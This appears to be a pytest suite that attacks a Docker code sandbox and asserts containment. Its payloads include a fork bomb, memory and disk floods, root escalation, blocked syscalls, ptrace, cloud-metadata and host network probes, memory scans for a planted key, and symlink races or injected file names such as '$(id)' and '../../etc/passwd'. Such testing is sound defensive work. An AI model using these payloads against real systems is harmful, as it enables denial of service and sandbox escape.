"""What the sandbox promises: this module is the list. Each test is an attack, and looks at the host as well.

Most attacks happen in one sandbox, made as a session makes it: after each of them the next cell has to work.
"""

from __future__ import annotations

import json
import os
import secrets
import signal
import socket
import socketserver
import stat
import struct
import subprocess
import sys
import tempfile
import threading
import time
import unicodedata
from collections.abc import Callable, Iterator
from contextlib import ExitStack, closing, contextmanager, suppress
from dataclasses import dataclass, field
from hashlib import sha256
from pathlib import Path
from typing import Any

import pytest
from docker.types import LogConfig

from ecoassist.config import environment, load
from ecoassist.errors import NoSandbox
from ecoassist.kernel.box import DockerBox
from ecoassist.kernel.docker import Engine, connect
from ecoassist.kernel.link.mux import Mux
from ecoassist.kernel.reaper import LABEL
from ecoassist.kernel.settings import BoxSettings
from ecoassist.outbox import FolderOutbox
from ecoassist.owners import owner
from ecoassist.ports import Kernel
from ecoassist.sandboxes import Sandboxes
from ecoassist.types import CellResult

MB = 1_000_000
USER = "10001"
KEY = secrets.token_hex(8) + "-real-key-" + secrets.token_hex(8)
pytestmark = pytest.mark.docker
MARK = "mark-of-the-host-" + secrets.token_hex(8)
"""Stands in the environment of this process and in a file that it holds open."""
TAG = "promise-" + secrets.token_hex(4)
"""Names what an attack makes."""
CONFIG = """
[sandbox]
cell_seconds = 30
[apis.weather]
host = "api.weather.example"
secret = "PROMISES_KEY"
place = "query:key"
"""
DEADLINE = 15.0
Eventually = Callable[[Callable[[], object]], None]


def cell_of(kernel: Kernel, code: str, seconds: float | None = None, pause: float = 0.0) -> CellResult:
    """Runs a cell to its end; `pause`: seconds between two looks at what it says."""
    stream = kernel.run(code, seconds)
    try:
        while True:
            next(stream)
            time.sleep(pause)
    except StopIteration as end:
        result: CellResult = end.value
        return result


@dataclass
class Box:
    """A sandbox, and what the host knows of it."""

    kernel: Kernel
    engine: Engine
    id: str

    def cell(self, code: str, seconds: float | None = None, pause: float = 0.0) -> CellResult:
        return cell_of(self.kernel, code, seconds, pause)

    def says(self, code: str) -> str:
        """What a cell printed, with its last value; it has to end well."""
        result = self.cell(code)
        assert result.status == "ok", result
        return f"{result.text}{result.value}".strip()

    def works(self) -> bool:
        return self.cell("6 * 7").value == "42"

    def processes(self) -> list[tuple[str, str]]:
        """User and command of each, as the host's process table has them."""
        rows = self.engine.api.top(self.id, "-eo pid,uid,args")["Processes"]
        return [(user, command) for _, user, command in rows]

    def inspect(self) -> dict[str, Any]:
        found: dict[str, Any] = self.engine.api.inspect_container(self.id)
        return found

    def written(self) -> tuple[object, object]:
        """What changed in its file system on the host's disk, and how many bytes."""
        [row] = self.engine.api.containers(size=True, filters={"id": self.id})
        return self.engine.api.diff(self.id) or [], row.get("SizeRw", 0)


@pytest.fixture(scope="module")
def engine(box_settings: BoxSettings) -> Iterator[Engine]:
    with closing(connect(box_settings)) as engine:
        yield engine


@pytest.fixture(scope="module")
def shared(engine: Engine, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Box]:
    """A sandbox behind its gate, with an API whose key it must not see, made by a process with an open secret."""
    folder = tmp_path_factory.mktemp("host")
    (config := folder / "config.toml").write_text(CONFIG)
    (secret := folder / "secret").write_text(MARK)
    with pytest.MonkeyPatch.context() as patch, secret.open() as descriptor:
        os.set_inheritable(descriptor.fileno(), True)
        patch.setenv("PROMISES_KEY", KEY)
        patch.setenv("PROMISES_MARK", MARK)
        before = dict(engine.containers(LABEL))
        kernel = Sandboxes(load(config, environ=environment()), lambda text: None, ()).start()
        try:
            [mine] = [id for id, labels in engine.containers(LABEL) if labels[LABEL] == owner() and id not in before]
            yield Box(kernel, engine, mine)
        finally:
            kernel.close()


@pytest.fixture
def box(shared: Box) -> Iterator[Box]:
    yield shared
    assert shared.works()


@contextmanager
def little_memory() -> Iterator[None]:
    """Promises that this process never held 100 MB more than at the beginning, for a moment even."""
    here = Path("/proc/self")
    if not (here / "clear_refs").exists():
        pytest.skip("this system does not tell the peak of a process's memory")
    (here / "clear_refs").write_text("5")  # the peak begins anew
    before = peak()
    yield
    assert peak() - before < 100 * MB


def peak() -> int:
    return int(Path("/proc/self/status").read_text().partition("VmHWM:")[2].split()[0]) * 1024


# ── it ends what it started, and the next cell works ────────────────────────────────────────────────────────────────


def test_a_fork_bomb_stops_at_the_limit_and_ends_with_a_restart(box: Box, eventually: Eventually) -> None:
    bomb = """
import os
while True:
    try: os.fork()
    except OSError: pass
"""
    box.says(f"import subprocess, sys; bomb = subprocess.Popen([sys.executable, '-S', '-c', {bomb!r}])")
    eventually(lambda: len(box.processes()) > 100)
    assert len(box.processes()) <= 128
    assert subprocess.run(["true"], check=False).returncode == 0
    box.kernel.restart()
    assert [user for user, _ in box.processes()] == [USER, USER]  # the relay and its kernel


def test_a_memory_bomb_ends_its_kernel_only(box: Box) -> None:
    with little_memory():
        result = box.cell("all = []\nwhile True: all.append(bytearray(10_000_000))")
    assert (result.status, result.state_lost) == ("oom", True)


def test_no_shared_memory_and_no_queue_outlives_a_restart(box: Box) -> None:
    attempts = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
for key in range(1, 4):
    here = libc.shmget(key, 250_000_000, 0o1666)
    if here >= 0: ctypes.memset(libc.shmat(here, None, 0), 1, 250_000_000)
for number in range(100):
    try: open(f"/dev/mqueue/{number}", "x").close()
    except OSError: break
libc.semget(1, 1, 0o1666), libc.msgget(1, 0o1666)
"""
    box.cell(attempts)
    box.kernel.restart()
    left = """
import os
os.listdir("/dev/mqueue"), [len(open(f"/proc/sysvipc/{name}").readlines()) - 1 for name in ("shm", "sem", "msg")]
"""
    assert box.says(left) == "([], [0, 0, 0])"
    assert box.says("len(b'x' * 800_000_000)") == "800000000"


@pytest.mark.parametrize("folder", ["/tmp", "/home/sbx", "/dev/shm", "/run/eco"])
def test_a_full_disk_is_a_bounded_piece_of_memory(box: Box, folder: str) -> None:
    fill = f"""
import os
size = 0
try:
    with open("{folder}/big", "wb", buffering=0) as file:
        while True: size += file.write(bytes(1 << 20))
except OSError as error:
    print(error.strerror, size <= 256 << 20)
"""
    assert box.says(fill) == "No space left on device True"
    assert box.works()
    assert box.written() == ([], 0)
    box.kernel.restart()
    assert box.says(f"import os; os.path.exists('{folder}/big')") == "False"


@pytest.mark.parametrize("folder", ["/tmp", "/home/sbx"])
def test_files_without_number_come_to_an_end(box: Box, folder: str) -> None:
    fill = f"""
import itertools, os
try:
    for count in itertools.count(): open(f"{folder}/{{count}}", "x").close()
except OSError as error:
    print(error.strerror, count < 21_000)
"""
    assert box.says(fill) == "No space left on device True"
    assert box.works()
    assert box.written() == ([], 0)
    box.kernel.restart()
    assert box.says(f"import os; len([name for name in os.listdir('{folder}') if name[0] != '.'])") == "0"


def test_an_endless_loop_in_c_ends_at_its_deadline(box: Box) -> None:
    pid = box.says("import os; os.getpid()")
    before = time.monotonic()
    result = box.cell("sum(range(10**13))", seconds=1)
    assert (result.status, result.cause, result.state_lost) == ("timeout", "deadline", True)
    assert box.works()
    assert time.monotonic() - before < DEADLINE
    assert len(box.processes()) == 2
    assert box.says("import os; os.getpid()") != pid


@pytest.mark.parametrize(
    "code",
    ["while True: print('.')\n", "import time\nwhile True: time.sleep(0.001); print('x' * 10)", "while True: pass"],
    ids=["prints", "prints slowly", "is silent"],
)
def test_a_deadline_holds_whatever_is_printed(box: Box, code: str) -> None:
    before = time.monotonic()
    result = box.cell(f"kept = 1\n{code}", seconds=1)
    assert result.status == "timeout" or result.cause == "output"
    assert time.monotonic() - before < DEADLINE


def test_a_signal_to_everybody_reaches_nobody_outside(box: Box) -> None:
    as_user = {"user": int(USER), "group": int(USER)} if os.getuid() == 0 else {}
    with subprocess.Popen(["sleep", "600"], **as_user) as bystander:  # type: ignore[call-overload]
        try:
            for number in (signal.SIGKILL, signal.SIGTERM, signal.SIGSTOP):
                box.says(f"import os\ntry: os.kill(-1, {number:d})\nexcept ProcessLookupError: pass")
            for number in set(signal.Signals) - {signal.SIGINT}:
                box.says(f"os.kill(1, {number:d})")
            assert bystander.poll() is None
            assert len(box.processes()) == 2
        finally:
            bystander.kill()


def test_what_a_cell_left_running_ends_with_a_restart(box: Box) -> None:
    daemon = f"""
import subprocess, sys
child = "import signal, time; [signal.signal(n, signal.SIG_IGN) for n in (1, 2, 15)]; time.sleep(600)"
here = subprocess.Popen([sys.executable, "-S", "-c", child, "{TAG}"], start_new_session=True)
"""
    box.says(daemon)
    assert [user for user, command in box.processes() if TAG in command] == [USER]
    box.kernel.restart()
    assert not [command for _, command in box.processes() if TAG in command]


# ── floods: the host's memory stays as it is ────────────────────────────────────────────────────────────────────────


@pytest.mark.parametrize(
    "code",
    [
        "while True: print('x' * 100_000)",
        "import sys\nwhile True: sys.stderr.write('x' * 100)",
        "while True: display({'text/plain': 'x' * 200_000, 'text/html': '<b>' * 200_000}, raw=True)",
        "'x' * 200_000_000",
        "display({'image/png': 'x' * 200_000_000}, raw=True)",
        "raise ValueError('x' * 50_000_000)",
    ],
    ids=["print", "stderr", "display", "one value", "one image", "one error"],
)
def test_a_flood_costs_the_host_no_memory(box: Box, code: str) -> None:
    with little_memory():
        result = box.cell(code, seconds=3, pause=0.02)  # and the host reads slowly
        assert len(result.text) + len(result.value) < 20_000
        assert box.works()


# ── no way up ───────────────────────────────────────────────────────────────────────────────────────────────────────


def test_code_is_a_user_without_rights(box: Box) -> None:
    rights = """
import os
rows = dict(line.split(":\\t", 1) for line in open("/proc/self/status") if ":\\t" in line)
names = ("Uid", "Groups", "CapPrm", "CapEff", "CapBnd", "CapAmb", "NoNewPrivs", "Seccomp")
print(*(rows[name].strip() for name in names))
"""
    ids = "\t".join([USER] * 4)
    assert box.says(rights) == f"{ids} {USER} {'0' * 16} {'0' * 16} {'0' * 16} {'0' * 16} 1 2"
    assert {user for user, _ in box.processes()} == {USER}
    made = box.inspect()["HostConfig"]
    assert (made["CapDrop"], made["CapAdd"], made["Privileged"], made["PidMode"]) == (["ALL"], None, False, "")


def test_nobody_becomes_root(box: Box) -> None:
    attempts = """
import os, subprocess
calls = {"setuid": (0,), "setgid": (0,), "setgroups": ([0],), "setresuid": (0, 0, 0), "chroot": ("/tmp",)}
for name, rights in calls.items():
    try: getattr(os, name)(*rights); print(name)
    except PermissionError: pass
for su in ("su root -c id", "sudo -n id", "mount /tmp"):
    print(subprocess.run(su, shell=True, stdin=subprocess.DEVNULL, capture_output=True).stdout.decode(), end="")
"""
    assert box.says(attempts) == ""
    assert {user for user, _ in box.processes()} == {USER}


CALLS = {
    # name: number on x86_64, number on aarch64
    "process_vm_readv": (310, 270), "process_vm_writev": (311, 271), "kcmp": (312, 272),
    "mount": (165, 40), "umount2": (166, 39), "pivot_root": (155, 41), "chroot": (161, 51), "swapon": (167, 224),
    "move_mount": (429, 429), "open_tree": (428, 428), "fsopen": (430, 430), "mount_setattr": (442, 442),
    "setns": (308, 268), "open_by_handle_at": (304, 265),
    "io_uring_setup": (425, 425), "io_uring_enter": (426, 426), "io_uring_register": (427, 427),
    "bpf": (321, 280), "userfaultfd": (323, 282), "perf_event_open": (298, 241),
    "keyctl": (250, 219), "add_key": (248, 217), "request_key": (249, 218),
    "init_module": (175, 105), "finit_module": (313, 273), "delete_module": (176, 106), "kexec_load": (246, 104),
    "reboot": (169, 142), "acct": (163, 89), "settimeofday": (164, 170), "sethostname": (170, 161),
    "fanotify_init": (300, 262), "syslog": (103, 116), "quotactl": (179, 60), "vhangup": (153, 58),
}  # fmt: skip


@pytest.mark.parametrize("call", CALLS)
def test_no_call_that_the_kernel_s_weak_spots_are_behind(box: Box, call: str) -> None:
    made = f"""
import ctypes, errno, os
number = {CALLS[call]}[os.uname().machine == "aarch64"]
libc = ctypes.CDLL(None, use_errno=True)
print(libc.syscall(number, 1, 0, 0, 0, 0, 0), errno.errorcode[ctypes.get_errno()])
"""
    assert box.says(made) in ("-1 EPERM", "-1 ENOSYS")


def test_no_new_namespace_and_no_mount(box: Box) -> None:
    attempts = f"""
import ctypes, errno, os, subprocess
libc = ctypes.CDLL(None, use_errno=True)
made = []
for flag in (0x00020000, 0x02000000, 0x04000000, 0x08000000, 0x10000000, 0x20000000, 0x40000000, 0x80):
    if libc.unshare(flag) == 0: made.append(hex(flag))
for kind in ("tmpfs", "proc", "overlay", "fuse"):
    if libc.mount(b"{TAG}", b"/tmp", kind.encode(), 0, None) == 0: made.append(kind)
if libc.mount(b"/", b"/tmp", None, 4096, None) == 0: made.append("bind")
for words in ("unshare -r id", "unshare -Ur true"):
    if subprocess.run(words, shell=True, capture_output=True).returncode == 0: made.append(words)
print(made)
"""
    assert box.says(attempts) == "[]"
    for table in (Path("/proc/self/mountinfo"), Path("/proc/mounts")):
        assert not table.exists() or TAG not in table.read_text()


def test_pid_1_is_out_of_reach(box: Box) -> None:
    attempts = """
import ctypes, os
read = []
for name in ("environ", "mem", "maps", "auxv", "io", "syscall", "stack", "exe", "cwd", "root", "fd", "ns/net"):
    here = f"/proc/1/{name}"
    try: os.readlink(here) if os.path.islink(here) else os.listdir(here) if name == "fd" else open(here, "rb").read(1)
    except OSError: continue
    read.append(name)
libc = ctypes.CDLL(None, use_errno=True)
print(read, libc.ptrace(16, 1, 0, 0), libc.ptrace(0x4206, 1, 0, 0))
try: os.sched_setaffinity(1, {0}); os.setpriority(os.PRIO_PROCESS, 1, 19)
except OSError as error: print(error.strerror)
"""
    said = box.says(attempts)
    assert said.startswith("[] -1 -1"), said
    assert [command for _, command in box.processes() if "relay" in command]


# ── no way out ──────────────────────────────────────────────────────────────────────────────────────────────────────


def test_only_sockets_of_the_known_families_and_none_that_are_raw(box: Box) -> None:
    attempts = """
import errno, socket
made = []
for family in range(64):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW, socket.SOCK_SEQPACKET, 10):
        try: socket.socket(family, kind).close()
        except OSError: continue
        made.append((family, kind))
print(sorted({family for family, _ in made}), sorted({family for family, kind in made if kind in (3, 10)}))
"""
    # AF_UNIX (which takes RAW for DGRAM), AF_INET, AF_INET6, AF_NETLINK
    assert box.says(attempts) == "[1, 2, 10, 16] [1, 16]"


def test_the_virtual_machine_s_own_sockets_do_not_lead_to_the_host(box: Box) -> None:
    attempt = """
import socket
for cid in (0, 1, 2, 3):
    try: socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM).connect((cid, {port})); print("connected", cid)
    except OSError as error: print(error.strerror)
"""
    with ExitStack() as stack:
        port = 1024
        with suppress(OSError, AttributeError):  # not every host has them
            listener = stack.enter_context(socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM))
            listener.bind((socket.VMADDR_CID_ANY, socket.VMADDR_PORT_ANY))
            listener.listen()
            listener.settimeout(0)
            port = listener.getsockname()[1]
        assert box.says(attempt.format(port=port)) == "\n".join(["Operation not permitted"] * 4)
        if port != 1024:
            with pytest.raises(BlockingIOError):
                listener.accept()


@dataclass
class Service:
    """A service of the host on all its addresses, which notes who comes."""

    port: int
    visitors: list[object] = field(default_factory=list)


@pytest.fixture
def service() -> Iterator[Service]:
    class Handler(socketserver.BaseRequestHandler):
        def handle(self) -> None:
            found.visitors.append(self.client_address)

    with socketserver.ThreadingTCPServer(("0.0.0.0", 0), Handler) as tcp:
        found = Service(tcp.server_address[1])
        with socketserver.ThreadingUDPServer(("0.0.0.0", found.port), Handler) as udp:
            threads = [threading.Thread(target=server.serve_forever, args=(0.02,)) for server in (tcp, udp)]
            for thread in threads:
                thread.start()
            yield found
            tcp.shutdown()
            udp.shutdown()
            for thread in threads:
                thread.join()


def addresses_of_the_host(engine: Engine) -> list[str]:
    """That of the bridge, and that by which this machine would speak to others."""
    found = [row["Gateway"] for row in engine.api.inspect_network("bridge")["IPAM"]["Config"] if "Gateway" in row]
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe, suppress(OSError):
        probe.connect(("192.0.2.1", 9))  # sends nothing
        found.append(probe.getsockname()[0])
    return found


CONNECTS = """
import socket
for host in {hosts}:
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        with socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET, kind) as way:
            way.settimeout(3)
            try:
                way.connect((host, {port}))
                way.send(b"hello")
                if kind == socket.SOCK_DGRAM: way.recv(1)
            except ConnectionRefusedError: assert host in ("127.0.0.1", "::1", "0.0.0.0")
            except OSError as error: print(error.strerror)
            else: print("reached", host, kind)
"""


def test_services_of_the_host_are_out_of_reach(box: Box, service: Service, eventually: Eventually) -> None:
    hosts = addresses_of_the_host(box.engine)
    said = box.says(CONNECTS.format(hosts=["127.0.0.1", "0.0.0.0", "::1", *hosts], port=service.port))
    assert set(said.splitlines()) <= {"Network is unreachable", "Cannot assign requested address"}
    assert service.visitors == []
    socket.create_connection(("127.0.0.1", service.port)).close()
    eventually(lambda: service.visitors)  # it does note who comes


def test_the_metadata_of_the_machine_and_the_internet_are_out_of_reach(box: Box) -> None:
    hosts = ["169.254.169.254", "fd00:ec2::254", "100.100.100.200", "1.1.1.1", "2606:4700:4700::1111", "224.0.0.1"]
    said = box.says(CONNECTS.format(hosts=hosts, port=80))
    assert set(said.splitlines()) <= {"Network is unreachable", "Cannot assign requested address"}
    lookup = "import socket; print(socket.getaddrinfo('example.com', 80)[0][4][0])"
    assert box.says(lookup).startswith("127.")
    assert box.says("import os; os.listdir('/sys/class/net')") == "['lo']"
    made = box.inspect()
    assert made["HostConfig"]["NetworkMode"] == "none"
    assert list(made["NetworkSettings"]["Networks"]) == ["none"]
    assert not made["NetworkSettings"]["Ports"]


def test_the_gate_leads_to_no_address_of_the_host(box: Box, service: Service) -> None:
    asks = """
import requests, urllib3
urllib3.disable_warnings()
session = requests.Session()
session.trust_env, session.proxies, session.verify = False, {{"all": "http://127.0.0.1:3128"}}, False
for host in {hosts}:
    for scheme in ("http", "https"):
        try: print(session.get(f"{{scheme}}://{{host}}:{port}/", timeout=10).status_code)
        except IOError as error: print(error)
"""
    hosts = ["127.0.0.1", "localhost", "169.254.169.254", "[::1]", "2130706433", *addresses_of_the_host(box.engine)]
    result = box.cell(asks.format(hosts=hosts, port=service.port))
    assert result.text.splitlines() == ["403"] * (2 * len(hosts)), result
    assert result.accesses
    assert all(access.refused and access.status is None for access in result.accesses), result.accesses
    assert service.visitors == []


def test_abstract_sockets_and_shared_memory_of_the_host_are_out_of_reach(box: Box) -> None:
    with socket.socket(socket.AF_UNIX) as listener:
        if sys.platform != "linux":
            pytest.skip("abstract sockets are a thing of Linux")
        listener.bind(f"\0{TAG}")
        listener.listen()
        listener.settimeout(0)
        attempt = f"import socket; socket.socket(socket.AF_UNIX).connect('\\0{TAG}')"
        error = box.cell(attempt).error
        assert error
        assert error.name == "ConnectionRefusedError"
        with pytest.raises(BlockingIOError):
            listener.accept()
    assert box.inspect()["HostConfig"]["IpcMode"] == "private"
    assert box.says("open('/proc/net/unix').read().count('@')") == "0"


NEIGHBOUR = """
import http.server, sys
class Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self): self.send_response(200); self.end_headers()
http.server.HTTPServer(("0.0.0.0", 8000), Handler).serve_forever()
"""


@pytest.fixture
def neighbour(box: Box) -> Iterator[str]:
    """The id of another container, of the same image, with a service on the engine's bridge."""
    api = box.engine.api
    made = api.create_container(
        box.inspect()["Config"]["Image"],
        entrypoint=["/opt/venv/bin/python", "-u", "-c", NEIGHBOUR],
        host_config=api.create_host_config(log_config=LogConfig(type="json-file")),
    )["Id"]
    try:
        api.start(made)
        yield made
    finally:
        api.remove_container(made, force=True)


def test_other_containers_are_out_of_reach(box: Box, neighbour: str, eventually: Eventually) -> None:
    api = box.engine.api
    address = api.inspect_container(neighbour)["NetworkSettings"]["IPAddress"]
    ask = f"import urllib.request; urllib.request.urlopen('http://{address}:8000/neighbour')"

    def answers() -> bool:
        asked = api.exec_create(neighbour, ["/opt/venv/bin/python", "-c", ask])["Id"]
        api.exec_start(asked)
        return bool(api.exec_inspect(asked)["ExitCode"] == 0)

    eventually(answers)
    heard = api.logs(neighbour).count(b"GET /neighbour")
    assert heard >= 1
    said = box.says(CONNECTS.format(hosts=[address], port=8000))
    assert set(said.splitlines()) == {"Network is unreachable"}
    assert api.logs(neighbour).count(b"GET /") == heard


# ── nothing of the host inside ──────────────────────────────────────────────────────────────────────────────────────


def test_the_host_s_processes_and_its_kernel_are_not_in_proc(box: Box) -> None:
    attempts = """
import os
commands = [open(f"/proc/{pid}/cmdline").read() for pid in os.listdir("/proc") if pid.isdigit()]
print(len(commands), [command for command in commands if "pytest" in command])
for name in ("kcore", "kmsg", "keys", "timer_list", "sched_debug", "vmallocinfo", "slabinfo", "kpageflags"):
    try:
        if open(f"/proc/{name}", "rb").read(1): print("read", name)
    except OSError: pass
for name in ("sysrq-trigger", "sys/kernel/core_pattern", "sys/kernel/modprobe", "sys/vm/drop_caches", "1/oom_score_adj",
             "sys/fs/binfmt_misc/register", "irq/0/smp_affinity", "sys/kernel/hostname", "sys/net/ipv4/ip_forward"):
    try: open(f"/proc/{name}", "w").write("1"); print("wrote", name)
    except OSError: pass
"""
    patterns = Path("/proc/sys/kernel/core_pattern"), Path("/proc/sys/kernel/hostname")
    before = [path.read_text() for path in patterns if path.exists()]
    assert box.says(attempts) == "2 []"
    assert [path.read_text() for path in patterns if path.exists()] == before


def test_the_host_s_environment_is_nowhere_inside(box: Box) -> None:
    reads = """
import json
texts = [json.dumps(dict(os.environ))]
for pid in os.listdir("/proc"):
    for name in ("environ", "cmdline", "status", "mountinfo", "cgroup"):
        try: texts.append(open(f"/proc/{pid}/{name}").read())
        except OSError: pass
for folder, _, files in [*os.walk("/run"), *os.walk("/home"), *os.walk("/eco"), *os.walk("/tmp"), *os.walk("/dev/shm")]:
    for file in files:
        here = os.path.join(folder, file)
        if os.path.isfile(here): texts.append(open(here, errors="replace").read())
[value for value in VALUES if value in "\\n".join(texts)]
"""
    made = json.dumps(box.inspect())
    given = json.loads(box.says("import os, json; print(json.dumps(dict(os.environ)))"))
    values = [value for name, value in os.environ.items() if len(value) >= 12 and name != "TZ"]
    values = [value for value in values if value not in given.values() and value[0] != "/"]  # others have them, too
    assert MARK in values
    # they go in as digits: the cell that looks for them must not be where they are found
    digits = [os.fsencode(value).hex() for value in values]
    assert box.says(f"import os\nVALUES = [os.fsdecode(bytes.fromhex(each)) for each in {digits!r}]\n{reads}") == "[]"
    assert not [value for value in (MARK, KEY) if value in made]
    assert all(name not in given for name in ("PROMISES_MARK", "ECOASSIST_DATA", "HOSTNAME"))


def test_a_real_key_is_in_no_environment_file_memory_or_setting(box: Box) -> None:
    box.kernel.restart()
    half, rest = KEY[:20], KEY[20:]
    digest = sha256(rest.encode()).hexdigest()
    search = f"""
import hashlib, os, re
def held(data):
    ends = [found.end() for found in re.finditer(rb"{half}", data)]
    return any(hashlib.sha256(data[end : end + {len(rest)}]).hexdigest() == {digest!r} for end in ends)
places = []
for line in open("/proc/self/maps"):
    low, high = (int(part, 16) for part in line.split()[0].split("-"))
    if "r" in line.split()[1] and high - low < 1 << 28:
        try:
            with open("/proc/self/mem", "rb", 0) as memory:
                memory.seek(low)
                if held(memory.read(high - low)): places.append(line)
        except (OSError, ValueError): pass
for root in ("/run", "/home", "/tmp", "/eco", "/etc", "/dev/shm", "/opt/venv/bin"):
    for folder, _, files in os.walk(root):
        for file in files:
            here = os.path.join(folder, file)
            if os.path.isfile(here) and os.access(here, os.R_OK) and held(open(here, "rb").read()): places.append(here)
print(places, held(b"{half}" + bytes(reversed({list(reversed(rest.encode()))}))), len(os.environ["PROMISES_KEY"]))
"""
    assert box.says(search) == f"[] True {len(KEY)}"
    placeholder = box.says("print(os.environ['PROMISES_KEY'])")
    assert placeholder != KEY
    made = json.dumps(box.inspect())
    assert KEY not in made
    assert placeholder not in made


def test_the_engine_of_containers_is_out_of_reach(box: Box) -> None:
    search = """
import os, stat
found = []
for folder, folders, files in os.walk("/"):
    folders[:] = [name for name in folders if os.path.join(folder, name) not in ("/proc", "/sys")]
    for name in files:
        here = os.path.join(folder, name)
        if stat.S_ISSOCK(os.lstat(here).st_mode): found.append(here)
print([name for name in found if not name.startswith("/run/eco/k-")], len(found))
print([name for name in ("docker", "podman", "runc", "ctr", "nsenter") if os.path.exists(f"/usr/local/bin/{name}")])
"""
    assert box.says(search) == "[] 5\n[]"  # the channels of a kernel are five
    made = box.inspect()
    assert (made["Mounts"], made["HostConfig"]["Binds"], made["HostConfig"]["Devices"]) == ([], None, None)


def test_nothing_is_writable_but_bounded_memory(box: Box) -> None:
    search = """
import os
def writable(folder):
    try: open(f"{folder}/promise", "x").close(); os.unlink(f"{folder}/promise"); return True
    except OSError: return False
found = []
for folder, folders, files in os.walk("/"):
    if folder in ("/proc", "/tmp", "/home/sbx", "/run/eco", "/dev/shm", "/dev/mqueue"): folders[:] = []; continue
    if writable(folder): found.append(folder)
    found += [here for here in (os.path.join(folder, name) for name in files)
              if not here.startswith("/dev/") and not os.path.islink(here) and os.access(here, os.W_OK)]
print(found)
for kind in (0o020666, 0o060666):
    try: os.mknod("/tmp/device", kind, os.makedev(1, 1)); print("a device")
    except PermissionError: pass
print(sorted(os.listdir("/dev")))
"""
    found, devices = box.says(search).splitlines()
    assert found == "[]"
    assert not {"mem", "kmem", "kmsg", "fuse", "kvm", "vsock", "vda", "sda", "loop-control"} & set(eval(devices))
    assert box.written() == ([], 0)


def test_no_descriptor_of_this_process_is_inherited(box: Box) -> None:
    look = """
import os
found = []
for pid in (pid for pid in os.listdir("/proc") if pid.isdigit()):
    try: numbers = os.listdir(f"/proc/{pid}/fd")
    except PermissionError: continue
    for number in numbers:
        try: found.append(os.readlink(f"/proc/{pid}/fd/{number}"))
        except FileNotFoundError: pass
print(len(found) > 5, [name for name in found if "secret" in name or name.startswith(("/root", "/home/", "/usr"))])
"""
    assert box.says(look) == "True []"


# ── files come out as plain files ───────────────────────────────────────────────────────────────────────────────────

LEAVES = """
import os, socket, subprocess, sys
open("good.txt", "w").write("good")
os.makedirs("sub/deeper"); open("sub/deeper/report.csv", "w").write("1,2")
for name, target in {"shadow.txt": "/etc/shadow", "up.txt": "../../../../etc/passwd", "link.txt": "good.txt"}.items():
    os.symlink(target, name)
os.symlink("/etc", "folder"); os.symlink("/", "sub/root")
os.mkfifo("pipe.txt")
kept = socket.socket(socket.AF_UNIX); kept.bind("socket.txt")
for name in ("Case.txt", "case.txt", "CASE.TXT", "caf\\u00e9.txt", "cafe\\u0301.txt", "a\\nb.txt", "\\x1b[31mred.txt",
             "..\\\\up.txt", "C:\\\\up.txt", "\\u202egpj.exe", "\\uff0fetc\\uff0fpasswd", "...", " ", "x" * 250,
             "-rf", "CON", "~root", "$(id)"):
    open(name, "w").write(name)
open(b"\\xff\\xfe.txt", "w").write("no text")
with open("sparse.bin", "wb") as sparse: sparse.truncate(1 << 30)
racer = '''
import os
while True:
    open("a", "w").write("good"); os.rename("a", "race.txt")
    os.symlink("/etc/passwd", "b"); os.rename("b", "race.txt")
'''
subprocess.Popen([sys.executable, "-S", "-c", racer])
"""


def test_what_code_leaves_reaches_the_person_as_plain_files_only(box_settings: BoxSettings, tmp_path: Path) -> None:
    (precious := tmp_path / "precious").write_text("untouched")
    said: list[str] = []
    outbox = FolderOutbox(tmp_path / "out", said.append)
    outbox.begin("run-1")
    with closing(DockerBox(box_settings).start(outbox=outbox)) as kernel:
        result = cell_of(kernel, LEAVES)
        assert result.status == "ok", result
        again = cell_of(kernel, "open('good.txt', 'w').write('better')")
    assert sorted(path.name for path in tmp_path.iterdir()) == ["out", "precious"]
    assert precious.read_text() == "untouched"
    [folder] = (tmp_path / "out").iterdir()
    found = list(folder.iterdir())
    assert all(stat.S_ISREG(path.lstat().st_mode) for path in found)
    assert {Path(file.path) for file in (*result.files, *again.files)} == set(found)
    names = [unicodedata.normalize("NFC", path.name).casefold() for path in found]
    assert len(set(names)) == len(names)  # on any file system they are different files
    assert all(name.isprintable() and not set(name) & set("/\\:") and name[0] not in ".-~ " for name in names), names
    assert (folder / "good.txt").read_text() == "better"
    contents = [path.read_bytes() for path in found if path.stat().st_size < MB]
    assert b"1,2" in contents
    assert {b"Case.txt", b"case.txt", b"CASE.TXT"} <= set(contents)
    assert not [content for content in contents if b"root:" in content]
    assert sum(path.stat().st_size for path in found) <= 256 << 20


# ── what stands beside it on the host ───────────────────────────────────────────────────────────────────────────────

PROBE = """
import os, socket, sys
os.setgroups([]); os.setresgid(65534, 65534, 65534); os.setresuid(65534, 65534, 65534)
for folder in sys.argv[1:]:
    for number in range(1, 6):
        try: socket.socket(socket.AF_UNIX).connect(f"{folder}/k-{number}"); print("connected", number)
        except PermissionError: print("refused")
    for attempt in (os.listdir, os.rmdir, lambda name: open(f"{name}/connection.json")):
        try: attempt(folder); print("read")
        except PermissionError: print("refused")
for name in ("environ", "mem", "fd"):
    try: open(f"/proc/{os.getppid()}/{name}", "rb").read(1) if name != "fd" else os.listdir(f"/proc/{os.getppid()}/fd")
    except PermissionError: print("refused")
    else: print("read", name)
"""


def sockets_of_this_process() -> list[Path]:
    """The folders of all its sandboxes."""
    marks = Path(tempfile.gettempdir()).glob("eco-*/owner")
    return [mark.parent for mark in marks if mark.read_text() == owner() and (mark.parent / "k-1").exists()]


def test_another_user_of_the_host_cannot_speak_to_the_kernel(box: Box) -> None:
    folders = sockets_of_this_process()
    assert folders
    for folder in folders:
        assert folder.stat().st_mode & 0o777 == 0o700
        assert {stat.S_IMODE(path.stat().st_mode) for path in folder.glob("k-*")} == {0o600}
    if os.getuid() != 0:
        pytest.skip("only root can try it as another user")
    probe = [sys.executable, "-I", "-S", "-c", PROBE, *map(str, folders)]
    done = subprocess.run(probe, cwd="/", capture_output=True, text=True, timeout=30, check=False)
    assert set(done.stdout.splitlines()) == {"refused"}, done


